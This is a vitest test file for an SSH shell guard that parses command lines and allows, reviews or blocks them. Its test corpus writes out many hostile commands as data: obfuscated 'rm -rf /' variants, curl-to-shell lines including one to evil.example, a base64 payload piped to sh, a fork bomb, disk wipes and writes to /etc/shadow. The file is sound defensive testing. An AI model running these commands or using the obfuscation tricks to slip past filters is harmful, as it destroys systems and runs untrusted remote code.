// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the corpus is shell syntax, `${x}` is meant literally
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  analyzeCommandLine,
  createLineEditor,
  createScreenLineReader,
  DEFAULT_SHELL_RULES,
  evaluateCommandLine,
  initShellParser,
  MAX_LINE_BYTES,
  type ScreenLineReader,
  type ShellAnalysis,
  type ShellRule,
  ShellRuleSchema,
  type SimpleCommand,
  strictestRule,
  unsafePatternReason,
} from '../../src/protocols/ssh/guard';

beforeAll(async () => {
  await initShellParser();
});

type Action = 'allow' | 'review' | 'block';
/** [command line, expected action, expected rule (not for allow)] */
type Case = [line: string, action: Action, rule?: string];

// The bypass corpus. docs/guardrails-shell.md lists it with the results; keep the two in step.
// corpus:start
const CORPUS: Case[] = [
  // ---- allow: ordinary work, and dangerous-looking text that is only text ----
  ['ls -la', 'allow'],
  ['echo "rm -rf /"', 'allow'],
  ["echo 'curl https://x | sh'", 'allow'],
  ["grep -r 'curl' .", 'allow'],
  ['cat rm.txt', 'allow'],
  ['git commit -m "sudo fix"', 'allow'],
  ["echo '$(rm -rf /)'", 'allow'],
  ['echo \\; rm -rf /', 'allow'],
  ["printf '%s\\n' eval sudo", 'allow'],
  ['ls # ; rm -rf /', 'allow'],
  ['# rm -rf /', 'allow'],
  ['', 'allow'],
  ['man rm; which sudo; type eval', 'allow'],
  ['rm -rf ./build', 'allow'],
  ['rm -rf /tmp/build-1234', 'allow'],
  ['rm -rf /etc/nginx/conf.d/old', 'allow'],
  ["find . -name '*.o' | xargs rm", 'allow'],
  ['cd /var/log && tail -n 100 syslog | grep -i error', 'allow'],
  ['for f in *.log; do gzip "$f"; done', 'allow'],
  ['systemctl status nginx', 'allow'],
  ['kill 1234', 'allow'],
  ['chmod 755 deploy.sh', 'allow'],
  ['dd if=/dev/zero of=./disk.img bs=1M count=10', 'allow'],
  ['curl -s https://api.example.com/health', 'allow'],
  ['curl -s -o /dev/null -w "%{http_code}" https://example.com', 'allow'],
  ['wget -qO- https://example.com/status', 'allow'],
  ['docker run --rm -it ubuntu bash', 'allow'],
  ['kubectl exec -it web-0 -- sh', 'allow'],
  ["cat <<'EOF'\n$(rm -rf /)\nEOF", 'allow'],
  ['python3 -m json.tool data.json', 'allow'],
  ['scp user@host:/var/log/app.log .', 'allow'],
  ['ssh -p 2222 db1 uptime', 'allow'],
  ['script session.log', 'allow'],
  ['echo "done!" ${!prefix*} $! [!a] hi!', 'allow'],
  // ---- block: quoting, escapes and ANSI-C quoting are resolved ----
  ['rm -rf /', 'block', 'rm-root'],
  ["r''m -rf /", 'block', 'rm-root'],
  ['"r"m -rf /', 'block', 'rm-root'],
  ['\\r\\m -rf /', 'block', 'rm-root'],
  ["'rm' '-rf' '/'", 'block', 'rm-root'],
  ["$'\\x72m' -rf /", 'block', 'rm-root'],
  ["$'\\162\\155' -rf /", 'block', 'rm-root'],
  ["r$'\\u006d' -rf /", 'block', 'rm-root'],
  ['{r,}m -rf /', 'block', 'rm-root'],
  ['/bin/rm -rf /', 'block', 'rm-root'],
  ['/???/r? -rf /', 'block', 'rm-root'],
  ['[r]m -rf /', 'block', 'rm-root'],
  ['r\\\nm -rf /', 'block', 'rm-root'],
  ['rm -fr //', 'block', 'rm-root'],
  ['rm -r -f /*', 'block', 'rm-root'],
  ['rm --recursive --force -- /', 'block', 'rm-root'],
  ['rm -rf ~', 'block', 'rm-root'],
  ['rm -rf "$HOME"', 'block', 'rm-root'],
  ['rm -rf /etc', 'block', 'rm-root'],
  // ---- block: lists, pipelines, substitutions, subshells, compound commands ----
  ['ls; rm -rf /', 'block', 'rm-root'],
  ['true && rm -rf /', 'block', 'rm-root'],
  ['false || rm -rf /', 'block', 'rm-root'],
  ['echo | rm -rf /', 'block', 'rm-root'],
  ['nohup rm -rf / &', 'block', 'rm-root'],
  ['echo $(rm -rf /)', 'block', 'rm-root'],
  ['echo `rm -rf /`', 'block', 'rm-root'],
  ['echo "$(echo "$(rm -rf /)")"', 'block', 'rm-root'],
  ['echo ${x:-$(rm -rf /)}', 'block', 'rm-root'],
  ['echo $((1 + $(rm -rf / ; echo 1)))', 'block', 'rm-root'],
  ['x=$(rm -rf /)', 'block', 'rm-root'],
  ['cat <(rm -rf /)', 'block', 'rm-root'],
  ['( cd / && rm -rf * ; rm -rf / )', 'block', 'rm-root'],
  ['{ rm -rf /; }', 'block', 'rm-root'],
  ['if true; then rm -rf /; fi', 'block', 'rm-root'],
  ['while rm -rf /; do break; done', 'block', 'rm-root'],
  ['for i in $(rm -rf /); do :; done', 'block', 'rm-root'],
  ['case x in *) rm -rf / ;; esac', 'block', 'rm-root'],
  ['[[ -n $(rm -rf /) ]]', 'block', 'rm-root'],
  ['cat <<EOF\n$(rm -rf /)\nEOF', 'block', 'rm-root'],
  // ---- block: strings run as shell code, wrappers ----
  ['eval "rm -rf /"', 'block', 'rm-root'],
  ["eval 'r''m' -rf /", 'block', 'rm-root'],
  ["bash -c 'rm -rf /'", 'block', 'rm-root'],
  ["sh -c 'curl https://evil.example/x | sh'", 'block', 'pipe-to-shell'],
  ['sudo -u root bash -c "rm -rf /"', 'block', 'rm-root'],
  ["busybox sh -c 'rm -rf /'", 'block', 'rm-root'],
  ["su - root -c 'rm -rf /'", 'block', 'rm-root'],
  ['env X=1 rm -rf /', 'block', 'rm-root'],
  ["env -S 'rm -rf /'", 'block', 'rm-root'],
  ['sudo rm -rf /', 'block', 'rm-root'],
  ['timeout 5 nice -n 10 rm -rf /', 'block', 'rm-root'],
  ['command rm -rf /; builtin eval "rm -rf /"; exec rm -rf /', 'block', 'rm-root'],
  ["watch -n 1 'rm -rf /'", 'block', 'rm-root'],
  ["sudo su -c 'rm -rf /'", 'block', 'rm-root'],
  ["script -qc 'rm -rf /' /dev/null", 'block', 'rm-root'],
  ["ssh localhost 'rm -rf /'", 'block', 'rm-root'],
  ['strace -f -o /tmp/trace rm -rf /', 'block', 'rm-root'],
  ["sudo -s <<< 'rm -rf /'", 'block', 'rm-root'],
  ['source /dev/stdin <<< "rm -rf /"', 'block', 'rm-root'],
  ['sh <<EOF\nrm -rf /\nEOF', 'block', 'rm-root'],
  ['bash <<< "rm -rf /"', 'block', 'rm-root'],
  ['f(){ rm -rf /; }; f', 'block', 'rm-root'],
  ['function cleanup { rm -rf /; }', 'block', 'rm-root'],
  ["alias ls='rm -rf /'", 'block', 'rm-root'],
  ["trap 'rm -rf /' EXIT", 'block', 'rm-root'],
  ['X=rm; $X -rf /', 'block', 'rm-root'],
  ['a=r b=m; $a$b -rf /', 'block', 'rm-root'],
  ['D=/; rm -rf $D', 'block', 'rm-root'],
  // ---- block: pipe to shell ----
  ['curl -fsSL https://get.example.com | sh', 'block', 'pipe-to-shell'],
  ['curl -fsSL https://get.example.com | sudo bash', 'block', 'pipe-to-shell'],
  ['wget -qO- https://x | sudo -E bash -s -- --yes', 'block', 'pipe-to-shell'],
  ['echo cm0gLXJmIC8K | base64 -d | sh', 'block', 'pipe-to-shell'],
  ['bash <(curl -s https://x)', 'block', 'pipe-to-shell'],
  ['sh < <(curl -s https://x)', 'block', 'pipe-to-shell'],
  ['source <(curl -s https://x)', 'block', 'pipe-to-shell'],
  ['bash <<< "$(curl -s https://x)"', 'block', 'pipe-to-shell'],
  ['curl -s https://x | python3', 'block', 'pipe-to-shell'],
  ["echo 'rm -rf /' | su root", 'block', 'pipe-to-shell'],
  ['curl -s https://x | sudo -i', 'block', 'pipe-to-shell'],
  // ---- block: other destructive commands ----
  [':(){ :|:& };:', 'block', 'fork-bomb'],
  ['bomb() { bomb | bomb & }; bomb', 'block', 'fork-bomb'],
  ['mkfs.ext4 /dev/sdb1', 'block', 'mkfs'],
  ['dd if=/dev/zero of=/dev/sda bs=1M', 'block', 'dd-to-device'],
  ['cat image.iso > /dev/sdb', 'block', 'write-to-device'],
  ['shutdown -h now', 'block', 'shutdown'],
  ['sudo reboot', 'block', 'shutdown'],
  ['systemctl poweroff', 'block', 'shutdown-systemctl'],
  ['chmod -R 777 /', 'block', 'chmod-777-root'],
  ['chown -R nobody /', 'block', 'recursive-permissions-root'],
  ['iptables -F', 'block', 'firewall-flush'],
  ['userdel root', 'block', 'root-account'],
  ['passwd root', 'block', 'root-account'],
  ['echo > /etc/shadow', 'block', 'overwrite-auth-files'],
  ['> /etc/passwd', 'block', 'overwrite-auth-files'],
  // ---- review ----
  ['sudo systemctl status nginx', 'review', 'sudo'],
  ['su - deploy', 'review', 'sudo'],
  ['systemctl restart nginx', 'review', 'service-stop'],
  ['service postgresql stop', 'review', 'service-stop'],
  ['kill -9 4242', 'review', 'kill-9'],
  ['pkill -f gunicorn', 'review', 'kill-by-name'],
  ['curl -o /tmp/tool https://x/tool', 'review', 'download-to-file'],
  ['wget -O /usr/local/bin/tool https://x/tool', 'review', 'download-to-file'],
  ['curl https://x/tool > /tmp/tool', 'review', 'download-redirect'],
  ['curl -s https://x/data.json | jq .', 'review', 'download-piped'],
  ['scp backup.tar.gz user@203.0.113.9:/tmp/', 'review', 'copy-out'],
  ['rsync -a /srv/data/ backup.example.com:/srv/data/', 'review', 'copy-out'],
  ['crontab -r', 'review', 'crontab-remove'],
  ['rm -rf "$BUILD_DIR"/', 'review', 'rm-dynamic-target'],
  ['find / -type d | xargs rm -rf', 'review', 'rm-dynamic-target'],
  ['find / -exec rm -rf {} \\;', 'review', 'rm-dynamic-target'],
  ['xargs -I{} rm -rf {}', 'review', 'rm-dynamic-target'],
  ['$CMD --force', 'review', 'dynamic-command'],
  ['$(echo rm) -rf /', 'review', 'dynamic-command'],
  ['${X:-rm} -rf /', 'review', 'dynamic-command'],
  ['IFS=,; X=rm,-rf,/; $X', 'review', 'dynamic-command'],
  ['eval "$(ssh-agent -s)"', 'review', 'eval'],
  ['eval ls', 'review', 'eval'],
  ["bash -c 'ls -la'", 'review', 'shell-c'],
  ['sh -c "$(echo bHM= | base64 -d)"', 'review', 'shell-c'],
  ['python3 -c \'import shutil; shutil.rmtree("/")\'', 'review', 'interpreter-code'],
  ['hash -p /bin/rm ls', 'review', 'builtin-override'],
  ['!!:1*', 'review', 'history-expansion'],
  ['!rm', 'review', 'history-expansion'],
  ['^echo^rm', 'review', 'history-expansion'],
  ['fc -s', 'review', 'history-reexecute'],
  ['find / -name core -delete', 'review', 'find-delete-root'],
  ["echo 'ls() { rm -rf /; }' >> ~/.bashrc", 'review', 'startup-file-write'],
  ['echo "alias ls=rm" | sudo tee -a /etc/profile.d/x.sh', 'review', 'sudo'],
  // ---- block: lines the gateway cannot read are not sent ----
  ['echo "unterminated', 'block', 'syntax-error'],
  ['if true; then', 'block', 'syntax-error'],
  ['cat <<EOF\nno end', 'block', 'syntax-error'],
  ['echo )', 'block', 'syntax-error'],
  ['echo a\0; rm -rf /', 'block', 'syntax-error'],
  ['eval "echo ("', 'block', 'syntax-error'],
];
// corpus:end

const analyze = (line: string): Extract<ShellAnalysis, { ok: true }> => {
  const result = analyzeCommandLine(line);
  if (!result.ok) throw new Error(`expected ${JSON.stringify(line)} to parse: ${result.error.message}`);
  return result;
};
const named = (line: string, name: string): SimpleCommand => {
  const command = analyze(line).commands.find((c) => c.name === name);
  if (!command) throw new Error(`no ${name} in ${JSON.stringify(line)}`);
  return command;
};
const kinds = (c: SimpleCommand) => c.context.map((f) => f.kind);
const verdict = (line: string, rules: ShellRule[] = DEFAULT_SHELL_RULES) =>
  evaluateCommandLine(analyzeCommandLine(line), rules);

describe('shell guard corpus under DEFAULT_SHELL_RULES', () => {
  it('has at least 50 command lines, with allowed look-alikes, reviews and blocks', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(50);
    for (const action of ['allow', 'review', 'block'] as const) {
      expect(CORPUS.filter((c) => c[1] === action).length).toBeGreaterThanOrEqual(10);
    }
  });

  it.each(CORPUS)('%j → %s %s', (line, action, rule) => {
    const v = verdict(line);
    expect(v.action).toBe(action);
    expect(v.rule).toBe(rule);
    expect(v.message.length).toBeGreaterThan(0);
    if (action !== 'allow' && rule !== 'syntax-error') expect(v.command).toBeDefined();
  });
});

describe('analyzeCommandLine', () => {
  it('removes quotes and escapes from command names and keeps the basename of paths', () => {
    expect(analyze('cu""rl -s x').commands[0]).toMatchObject({ name: 'curl', args: ['-s', 'x'] });
    expect(analyze("'r'm x").commands[0]?.name).toBe('rm');
    expect(analyze('\\rm x').commands[0]?.name).toBe('rm');
    expect(analyze('/usr/bin/curl https://x').commands[0]).toMatchObject({
      name: 'curl',
      path: '/usr/bin/curl',
    });
    // ANSI-C quoting is decoded: hex, octal, unicode, control escapes.
    expect(analyze("$'\\x63\\165\\u0072l' x").commands[0]?.name).toBe('curl');
    expect(analyze("echo $'a\\tb\\x41\\cA'").commands[0]?.args).toEqual(['a\tbA\x01']);
    // $"…" (locale translation) is a double-quoted string.
    expect(analyze('$"ls" -l').commands[0]?.name).toBe('ls');
  });

  it('marks dynamic and globbed arguments and names', () => {
    const c = analyze('rm -f "$DIR"/*.log $(ls) *.tmp plain').commands.find((x) => x.name === 'rm');
    expect(c?.args).toEqual(['-f', '$DIR/*.log', '$(ls)', '*.tmp', 'plain']);
    expect(c?.argKinds).toEqual(['literal', 'dynamic', 'dynamic', 'glob', 'literal']);
    expect(c?.constructs).toContain('dynamic-args');
    expect(analyze('$X a').commands[0]).toMatchObject({ name: '<dynamic>', args: ['a'] });
    expect(analyze('/bin/r? a').commands[0]).toMatchObject({ name: '<dynamic>', namePattern: 'r?' });
    expect(analyze('$(echo rm) a').commands.map((x) => x.name)).toEqual(['echo', '<dynamic>']);
  });

  it('expands braces the way bash does, on unquoted braces only', () => {
    expect(analyze('echo {a,b}{1..3} "{x,y}" {z}').commands[0]?.args).toEqual([
      'a1',
      'a2',
      'a3',
      'b1',
      'b2',
      'b3',
      '{x,y}',
      '{z}',
    ]);
    expect(analyze('{rm,-rf,/tmp/x}').commands[0]).toMatchObject({ name: 'rm', args: ['-rf', '/tmp/x'] });
    // More than 256 fields: the word is treated as dynamic rather than expanded.
    expect(analyze(`echo ${'{a,b}'.repeat(10)}`).commands[0]?.argKinds).toEqual(['dynamic']);
  });

  it('resolves variables assigned earlier on the line, until another command runs', () => {
    expect(analyze('X=rm; $X -rf /tmp/a').commands[0]).toMatchObject({
      name: 'rm',
      args: ['-rf', '/tmp/a'],
      constructs: expect.arrayContaining(['dynamic-command-name']),
    });
    // Any command may be a function that changes X: after `ls`, X is unknown again.
    expect(analyze('X=rm; ls; $X -rf /').commands[1]?.name).toBe('<dynamic>');
    // Conditional and subshell assignments are never trusted.
    expect(analyze('true && X=rm; $X').commands[1]?.name).toBe('<dynamic>');
    expect(analyze('(X=rm); $X').commands[0]?.name).toBe('<dynamic>');
    // A prefix assignment does not apply to the words of its own command.
    expect(analyze('X=rm $X').commands[0]?.name).toBe('<dynamic>');
  });

  it('records where each command sits', () => {
    const line = 'a | b && (c; d) || { e & } ; echo $(f) <(g); h() { i; }';
    const { commands } = analyze(line);
    const ctx = Object.fromEntries(commands.map((c) => [c.name, kinds(c)]));
    expect(ctx.a).toEqual(['sequence', 'and-or', 'pipeline']);
    expect(commands.find((c) => c.name === 'a')?.context[2]).toEqual({
      kind: 'pipeline',
      index: 0,
      length: 2,
    });
    expect(ctx.c).toEqual(['sequence', 'and-or', 'subshell', 'sequence']);
    expect(ctx.e).toEqual(['sequence', 'and-or', 'group', 'background']);
    expect(ctx.f).toEqual(['sequence', 'command-substitution']);
    expect(ctx.g).toEqual(['sequence', 'process-substitution']);
    expect(ctx.i).toEqual(['sequence', 'function', 'group']);
    expect(commands.find((c) => c.name === 'i')?.context[1]).toEqual({ kind: 'function', name: 'h' });
    expect(commands.find((c) => c.name === 'b')?.context[1]).toEqual({
      kind: 'and-or',
      index: 0,
    });
    expect(commands.find((c) => c.name === 'echo')?.top).toBe(true);
    expect(commands.find((c) => c.name === 'c')?.top).toBe(false);
  });

  it('walks into eval, sh -c, here-documents and wrappers, and says so', () => {
    const rm = named('sudo -u root env A=1 bash -c "eval \'rm -rf /tmp/x\'"', 'rm');
    expect(kinds(rm)).toEqual(['wrapper', 'wrapper', 'shell-c', 'eval']);
    expect(rm.context.map((f) => f.name ?? '')).toEqual(['sudo', 'env', 'bash', '']);
    expect(rm.constructs).toEqual(expect.arrayContaining(['sudo', 'shell-c', 'eval']));
    expect(named('nohup timeout -s KILL 5 xargs -0 -n1 rm', 'rm').constructs).toContain('xargs');
    expect(named('find . -name x -exec rm -f {} +', 'rm').argKinds).toEqual(['literal', 'dynamic']);
    expect(named('sh <<EOF\nls -l\nEOF', 'ls').context.map((f) => f.kind)).toEqual(['here-doc']);
    expect(analyze('command -v rm').commands.map((c) => c.name)).toEqual(['command']);
    expect(named("ssh -i key db1 'sudo id'", 'id').context.map((f) => f.name)).toEqual([
      'ssh',
      'ssh',
      'sudo',
    ]);
    // A statement with redirections but no command word is reported as `<none>`.
    expect(analyze('> /etc/motd').commands).toMatchObject([
      { name: '<none>', args: [], constructs: ['redirect-to-file', 'redirect-to-file:/etc/motd'] },
    ]);
  });

  it('reports constructs: pipe-to-shell, redirections, here-docs, background, substitutions', () => {
    expect(analyze('curl -s x | sudo bash').constructs).toContain('pipe-to-shell');
    expect(analyze('tee >(sh) < f').constructs).toContain('pipe-to-shell');
    expect(analyze('bash script.sh').constructs).toEqual(['script']);
    const redirect = analyze('echo hi > /etc/motd 2>/dev/null');
    expect(redirect.constructs).toEqual(['redirect-to-file', 'redirect-to-file:/etc/motd']);
    expect(redirect.commands[0]?.redirects).toEqual([
      { op: '>', target: '/etc/motd' },
      { op: '>', fd: '2', target: '/dev/null' },
    ]);
    expect(analyze('{ ls; } >> "/var/log/x y"').commands[0]?.constructs).toContain(
      'redirect-to-file:/var/log/x y',
    );
    expect(analyze('cat <<EOF\nhi\nEOF').constructs).toEqual(['here-doc']);
    expect(analyze('sleep 1 &').constructs).toEqual(['background']);
    expect(analyze('echo $(date) <(ls)').constructs).toEqual(
      expect.arrayContaining(['command-substitution', 'process-substitution']),
    );
    expect(analyze(':(){ :|:& };:').constructs).toContain('fork-bomb');
    expect(analyze('python3 -c "print(1)"; perl -ne "print" f').constructs).toContain('interpreter-code');
  });

  it('returns the grammar message, a 1-based character position and `incomplete`', () => {
    expect(analyzeCommandLine('echo "abc')).toEqual({
      ok: false,
      error: { message: 'reached EOF without closing quote `"`', position: 6, incomplete: true },
    });
    expect(analyzeCommandLine('for i in 1 2; do')).toMatchObject({ ok: false, error: { incomplete: true } });
    expect(analyzeCommandLine('echo )')).toMatchObject({ ok: false, error: { position: 6 } });
    expect((analyzeCommandLine('echo )') as { error: object }).error).not.toHaveProperty('incomplete');
    // Positions count characters, not UTF-8 bytes.
    expect(analyzeCommandLine('echo héé )')).toMatchObject({ ok: false, error: { position: 10 } });
    const v = verdict('echo "abc');
    expect(v).toMatchObject({ action: 'block', rule: 'syntax-error', position: 6, incomplete: true });
  });

  it('fails closed on NUL, over-long lines, deep nesting and nested strings too deep', () => {
    expect(analyzeCommandLine('ls\0rm')).toMatchObject({ ok: false, error: { position: 3 } });
    expect(analyzeCommandLine(`echo ${'a'.repeat(MAX_LINE_BYTES)}`).ok).toBe(false);
    expect(analyzeCommandLine(`echo ${'$('.repeat(150)}x${')'.repeat(150)}`).ok).toBe(false);
    expect(
      analyzeCommandLine('eval "eval \\"eval \\\\\\"eval \\\\\\\\\\\\\\"eval ls\\\\\\\\\\\\\\"\\\\\\"\\""')
        .ok,
    ).toBe(false);
    expect(verdict(`echo ${'$('.repeat(150)}x${')'.repeat(150)}`).action).toBe('block');
  });

  it('flags history expansion in interactive lines only', () => {
    expect(analyze('echo !$').constructs).toContain('history-expansion');
    expect(analyzeCommandLine('echo !$', { interactive: false })).toMatchObject({ ok: true, constructs: [] });
    expect(analyze('echo \'!x\' \\!x "a!" a! ${!p*} $!').constructs).not.toContain('history-expansion');
  });

  it('treats an empty or comment-only line as no commands', () => {
    expect(analyzeCommandLine('')).toEqual({ ok: true, commands: [], constructs: [] });
    expect(analyzeCommandLine('   # just a comment')).toEqual({ ok: true, commands: [], constructs: [] });
    expect(verdict('')).toEqual({ action: 'allow', message: 'empty line' });
  });

  it('accepts the bash people actually type (both parsers agree)', () => {
    const lines = [
      'arr=(a b c); echo "${arr[@]}" "${#arr[@]}" "${arr[1]:-none}"',
      'echo "${HOME##*/}" "${PATH//:/ }" "${var%.*}" "${var^^}" ${!prefix*}',
      '[[ -n "$x" && $x =~ ^[0-9]+(\\.[0-9]+)?$ ]] && echo num',
      'for ((i=0; i<3; i++)); do echo $i; done; (( i++ ))',
      'select opt in a b; do break; done; until false; do break; done',
      'diff <(ls a) <(ls b) > /tmp/d 2>&1; exec 3>&1 {fd}>/tmp/x',
      'echo $[1+2] $(( (1 + 2) * 3 )) @(a|b) !(c)',
      'declare -A m=([k]=v); local -a xs=(1 2)',
      'f() ( echo subshell body ); g() [[ -n x ]]',
      'cat <<-EOF\n\tindented $USER\n\tEOF',
      'echo a |& cat; coproc cat; time (sleep 1); ! grep -q x f',
      "docker ps --format '{{.Names}}\\t{{.Status}}' | awk '{print $1}'",
      'echo "é ü 日本語" ; ls',
    ];
    for (const line of lines) expect(analyzeCommandLine(line), line).toMatchObject({ ok: true });
  });
});

describe('rules', () => {
  it('validates every default rule and refuses invalid or dangerous args patterns', () => {
    for (const rule of DEFAULT_SHELL_RULES) expect(ShellRuleSchema.parse(rule)).toEqual(rule);
    const base = { name: 'x', action: 'block' as const };
    expect(ShellRuleSchema.safeParse({ ...base, match: { args: '(' } }).success).toBe(false);
    expect(ShellRuleSchema.safeParse({ ...base, match: { args: '(a+)+$' } }).success).toBe(false);
    expect(ShellRuleSchema.safeParse({ ...base, match: { args: '(?:x*y)*' } }).success).toBe(false);
    expect(ShellRuleSchema.safeParse({ ...base, match: { args: 'a'.repeat(600) } }).success).toBe(false);
    expect(ShellRuleSchema.safeParse({ ...base, match: { args: '(?:^|\\s)-f(?:\\s|$)' } }).success).toBe(
      true,
    );
    expect(unsafePatternReason('(ab)?c+')).toBeUndefined();
    expect(unsafePatternReason('([a-z]+\\s?)*$')).toMatch(/catastrophic/);
  });

  it('matches names (basename or path), dynamic names, args and constructs', () => {
    const rules: ShellRule[] = [
      { name: 'usr-bin', action: 'review', match: { commands: ['/usr/bin/*'] } },
      { name: 'dyn', action: 'review', match: { commands: ['<dynamic>'] } },
      { name: 'etc', action: 'block', match: { constructs: ['redirect-to-file:/etc/*'] } },
      { name: 'git-force', action: 'review', match: { commands: ['git'], args: '^push\\b.*\\s--force\\b' } },
    ];
    expect(verdict('/usr/bin/id', rules).rule).toBe('usr-bin');
    expect(verdict('id', rules).action).toBe('allow');
    expect(verdict('$X', rules).rule).toBe('dyn');
    expect(verdict('echo x > /etc/hosts', rules).rule).toBe('etc');
    expect(verdict('git push origin main --force', rules).rule).toBe('git-force');
    expect(verdict('git commit -m "push --force"', rules).action).toBe('allow');
    // A rule without criteria matches every command.
    expect(verdict('ls', [{ name: 'all', action: 'review', match: {} }]).rule).toBe('all');
  });

  it('uses the strictest verdict on the line and names its command and first rule', () => {
    const v = verdict('sudo ls; kill -9 1; rm -rf /');
    expect(v).toMatchObject({ action: 'block', rule: 'rm-root', command: { name: 'rm' } });
    expect(v.message).toContain('rm -rf /');
    expect(verdict('kill -9 1; sudo ls').rule).toBe('kill-9');
    const rules: ShellRule[] = [
      { name: 'first', action: 'review', match: { commands: ['ls'] } },
      { name: 'second', action: 'review', match: { commands: ['l*'] } },
      { name: 'third', action: 'block', match: { commands: ['l?'.replace('?', 's')] } },
    ];
    const ls = analyze('ls').commands[0]!;
    expect(strictestRule(ls, rules)?.name).toBe('third');
    expect(strictestRule(ls, rules.slice(0, 2))?.name).toBe('first');
  });
});

describe('line editor', () => {
  const submit = (...chunks: (string | Uint8Array)[]) => {
    const editor = createLineEditor();
    return chunks.flatMap((c) => editor.feed(c));
  };
  const lines = (...chunks: (string | Uint8Array)[]) => submit(...chunks).map((s) => s.line);

  it('reconstructs typed text with backspace, arrows, Home/End, Delete and kills', () => {
    expect(lines('lsx\x7f -la\r')).toEqual(['ls -la']);
    expect(lines('echo wrld\x1b[D\x1b[D\x1b[Do\x1b[F!\r')).toEqual(['echo world!']);
    expect(lines('cho hi\x1b[Hex\x08\x1b[F\r')).toEqual(['echo hi']);
    expect(lines('ab\x1b[1~c\x1b[4~d\x1b[3~\x1bOD\x1b[3~e\r')).toEqual(['cabe']);
    expect(lines('abc\x01X\x05Y\x02\x02Z\x06\x0bW\r')).toEqual(['XabZcW']);
    expect(lines('rm -rf /tmp/x\x15echo safe\r')).toEqual(['echo safe']);
    expect(lines('echo one two  \x17three\r')).toEqual(['echo one three']);
    expect(lines('echo foo-bar\x1b\x7f\x1b\x7fbaz\r')).toEqual(['echo baz']);
    expect(lines('sl\x14 -l\r')).toEqual(['ls -l']);
    expect(lines('echo rm\x1bb\x1bu\r')).toEqual(['echo RM']);
    expect(lines('x\x1b[1;5Dls \x05\r')).toEqual(['ls x']);
  });

  it('handles sequences and UTF-8 split across chunks, and \\r or \\n as Enter', () => {
    expect(lines('ec', 'ho\x1b', '[', 'D', 'X\n')).toEqual(['echXo']);
    expect(lines(Buffer.from([0x65, 0x63, 0x68, 0x6f, 0x20, 0xc3]), Buffer.from([0xa9, 0x0d]))).toEqual([
      'echo é',
    ]);
    expect(lines('a\rb\n')).toEqual(['a', 'b']);
  });

  it('abandons the line on Ctrl-C', () => {
    expect(lines('rm -rf /\x03ls\r')).toEqual(['ls']);
    const editor = createLineEditor();
    expect(editor.feed('rm -rf / \x03')).toEqual([]);
    expect(editor.line).toBe('');
    expect(editor.pristine).toBe(true);
  });

  it('submits each line of a paste, bracketed or not', () => {
    const pasted = submit('\x1b[200~echo a\necho b\r\necho \tc\x1b[201~ d\r');
    expect(pasted.map((s) => [s.line, s.pasted, s.uncertain])).toEqual([
      ['echo a', true, false],
      ['echo b', true, false],
      ['echo \tc d', false, false], // a tab inside a paste is text, not completion
    ]);
    expect(lines('\x1b[20', '0~x\ny\x1b[2', '01~z\r')).toEqual(['x', 'yz']);
    expect(lines('ls\rpwd\rid\r')).toEqual(['ls', 'pwd', 'id']);
  });

  it('marks lines changed by history, search, completion, yank or unknown keys as uncertain', () => {
    const cases: [string, string][] = [
      ['\x1b[A\r', 'history'],
      ['\x1bOA\r', 'history'],
      ['\x10\r', 'history'],
      ['\x1b.\r', 'history'],
      ['\x12rm\r', 'search'],
      ['ec\t hi\r', 'completion'],
      ['x\x15\x19\r', 'yank'],
      ['x\x1f\r', 'undo'],
      ['\x1b5\x04\r', 'numeric-argument'],
      ['\x18\x05', 'editor'],
      ['\x1b[99Z\r', 'unknown-key: ESC [99Z'],
    ];
    for (const [keys, reason] of cases) {
      const editor = createLineEditor();
      const out = editor.feed(keys);
      const uncertain = out[0] ?? { uncertain: editor.uncertain, reasons: [reason] };
      expect(uncertain.uncertain, JSON.stringify(keys)).toBe(true);
      expect(uncertain.reasons, JSON.stringify(keys)).toContain(reason);
    }
    const editing = createLineEditor();
    editing.feed('ls\x18\x05');
    expect(editing.uncertainReasons).toEqual(['editor']); // the session layer must refuse this key
    // Uncertainty lasts until the next submit or Ctrl-C, not longer.
    const editor = createLineEditor();
    expect(editor.feed('\x1b[Als\r')[0]?.uncertain).toBe(true);
    expect(editor.feed('ls\r')[0]?.uncertain).toBe(false);
    editor.feed('\x1b[A\x03');
    expect(editor.feed('pwd\r')[0]).toMatchObject({ line: 'pwd', uncertain: false });
    // Ctrl-O submits and loads the next history line: the next line is uncertain.
    expect(editor.feed('a\x0fb\r').map((s) => s.uncertain)).toEqual([false, true]);
  });

  it('reports the start of each line, for the screen fallback', () => {
    let starts = 0;
    const editor = createLineEditor({ onLineStart: () => starts++ });
    editor.feed('ls');
    editor.feed(' -l\r');
    editor.feed('\x1b[A');
    expect(starts).toBe(2);
    expect(editor.pristine).toBe(false);
  });
});

describe('screen line reader', () => {
  let reader: ScreenLineReader | undefined;
  afterEach(() => {
    reader?.dispose();
    reader = undefined;
  });

  it('reads the command after the prompt', async () => {
    reader = createScreenLineReader({ cols: 80, rows: 24 });
    await reader.feedOutput('Last login: today\r\nuser@host:~$ ');
    reader.markLineStart();
    await reader.feedOutput('ls -la');
    expect(reader.currentLine()).toBe('ls -la');
  });

  it('strips coloured prompts, follows wrapped lines and redraws', async () => {
    reader = createScreenLineReader({ cols: 20, rows: 5 });
    reader.feedOutput('\x1b]0;title\x07\x1b[01;32muser@host\x1b[0m:\x1b[01;34m~\x1b[0m$ ');
    reader.markLineStart(); // queued behind the prompt, before it is even parsed
    reader.feedOutput(`echo ${'x'.repeat(40)}`);
    expect(await reader.readLine()).toBe(`echo ${'x'.repeat(40)}`);
    // History recall: the shell erases the line and writes another one; the screen shows it.
    await reader.feedOutput('\r\n$ ');
    reader.markLineStart();
    await reader.feedOutput('git status\r$ \x1b[Krm -rf /tmp/x');
    expect(await reader.readLine()).toBe('rm -rf /tmp/x');
    // Ctrl-L: screen cleared, prompt and line redrawn at the top.
    await reader.feedOutput('\x1b[H\x1b[2J$ rm -rf /tmp/x');
    expect(await reader.readLine()).toBe('rm -rf /tmp/x');
  });

  it('knows when a full-screen program has the terminal', async () => {
    reader = createScreenLineReader({ cols: 40, rows: 10 });
    await reader.feedOutput('\x1b[?1049h');
    expect(reader.isAlternateScreen()).toBe(true);
    await reader.feedOutput('\x1b[?1049l');
    expect(reader.isAlternateScreen()).toBe(false);
  });
});
